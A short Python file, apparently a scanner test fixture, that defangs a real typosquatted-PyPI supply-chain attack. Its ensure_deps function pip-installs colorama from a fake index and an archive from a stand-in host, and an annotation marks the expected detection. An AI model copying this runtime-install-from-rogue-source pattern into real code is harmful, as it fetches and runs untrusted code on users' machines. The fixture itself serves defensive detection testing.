# Defanged replica of a runtime install from a fake package index (the
# Checkmarx "fake Python infrastructure" case, where colorama came from a
# typosquatted mirror) and from a direct archive URL. Both hosts are .invalid.
import os
import subprocess
import sys


def ensure_deps():
    try:
        import colorama  # noqa: F401
    except ImportError:
        subprocess.check_call(
            [sys.executable, "-m", "pip", "install", "--index-url", "https://files.pypihosted.invalid/simple", "colorama"]  # expect: HS241 high
        )
    os.system(f"{sys.executable} -m pip install -q https://dl.example.invalid/helpers-1.0.tar.gz")
